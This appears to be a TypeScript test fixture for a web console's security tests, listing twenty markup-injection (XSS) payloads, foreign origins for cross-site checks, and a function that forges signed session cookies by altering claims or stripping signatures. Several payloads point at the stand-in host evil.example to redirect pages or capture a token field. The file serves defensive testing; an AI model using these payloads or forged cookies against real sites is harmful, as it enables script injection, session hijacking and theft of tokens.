/** Attempts against the console: markup, cookies, pages of other sites. */

/** Twenty ways to have a page take a text for markup. */
export const markupAttempts = [
  '<script>globalThis.hit = 1</script>',
  '</script><script>hit()</script>',
  '<img src=x onerror=hit()>',
  '<svg onload=hit()>',
  '"><script>hit()</script>',
  "'><script>hit()</script>",
  '</code></li></ol><script>hit()</script>',
  '</textarea><script>hit()</script>',
  '</title><script>hit()</script>',
  '<!--<script>hit()//-->',
  '<a href="javascript:hit()">x</a>',
  '" autofocus onfocus="hit()',
  "' onmouseover='hit()",
  '<iframe srcdoc="<script>hit()</script>">',
  '<base href="//evil.example/">',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<form action=//evil.example><input name=token>',
  '<style>*{display:none}</style>',
  '&lt;script&gt;hit()&lt;/script&gt;',
  '<link rel=stylesheet href=//evil.example>',
] as const

/** Origins that are not the console's own; the second one is allowed to use the API. */
export const foreignPages = [
  'https://evil.example',
  'https://app.example',
  'null',
  'http://127.0.0.1:1',
] as const

/** Cookies that are not the one that was given. @param value of that one, of the token `ann` */
export function forgedCookies(value: string): readonly string[] {
  const [payload = '', signature = ''] = value.split('.')
  const claims = JSON.parse(Buffer.from(payload, 'base64url').toString() || '{}')
  const written = (changed: object) =>
    Buffer.from(JSON.stringify({ ...claims, ...changed })).toString('base64url')
  return [
    `${written({ name: 'rea' })}.${signature}`,
    `${written({ expiresAtMs: 9e15 })}.${signature}`,
    `${written({ id: 'another' })}.${signature}`,
    `${payload}.`,
    payload,
    `${payload}.${signature.slice(1)}`,
    `${value}.x`,
    `${Buffer.from('{}').toString('base64url')}.${signature}`,
    'x.y',
    '.',
  ]
}
